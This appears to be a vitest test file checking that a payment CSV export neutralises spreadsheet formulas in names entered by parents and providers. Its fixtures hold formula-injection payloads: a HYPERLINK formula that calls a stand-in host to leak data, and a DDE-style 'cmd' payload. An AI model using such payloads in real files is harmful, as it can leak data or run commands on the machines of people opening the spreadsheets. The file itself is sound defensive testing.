// The payment statement through HTTP, with names chosen to attack a spreadsheet: every cell that
// could start a formula arrives neutralised with a leading apostrophe (issue 10 §4).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPrivacyWorld, type PrivacyWorld } from '../support/privacy-world.js';

const CHILD = '=HYPERLINK("http://evil.example/?leak","Ақбота")';
const PROVIDER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const PROGRAM = '-2+3 Шахматы';

let world: PrivacyWorld;
beforeAll(async () => {
  world = await buildPrivacyWorld({ name: CHILD, providerName: PROVIDER, programTitle: PROGRAM });
}, 120_000);
afterAll(() => world?.close());

/** Splits CSV text into rows of cells (quoted cells may hold commas and doubled quotes). */
function parseCsv(text: string): string[][] {
  return text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean)
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!).slice(0, -1).map((c) => (c.startsWith('"') ? c.slice(1, -1).replaceAll('""', '"') : c)));
}

describe('GET /exports/payments/<id>.csv', () => {
  it('neutralises formulas in names typed by parents and providers', async () => {
    const res = await world.api.post('', { token: world.tokens.providerOne }, 'GET', `/exports/payments/${world.paymentId}.csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const text = (res.body as { raw?: string }).raw ?? '';
    const [header, columns, line] = parseCsv(text);
    expect(header!.slice(2, 4)).toEqual(['provider', `'${PROVIDER}`]);
    expect(columns![2]).toBe('child');
    expect(line!.slice(1, 5)).toEqual([world.enrollments.one, `'${CHILD}`, `'${PROGRAM}`, 'EDUCATIONAL']);
    // Nothing else starts a formula either.
    const risky = parseCsv(text).flat().filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(risky).toEqual([]);
  });
});
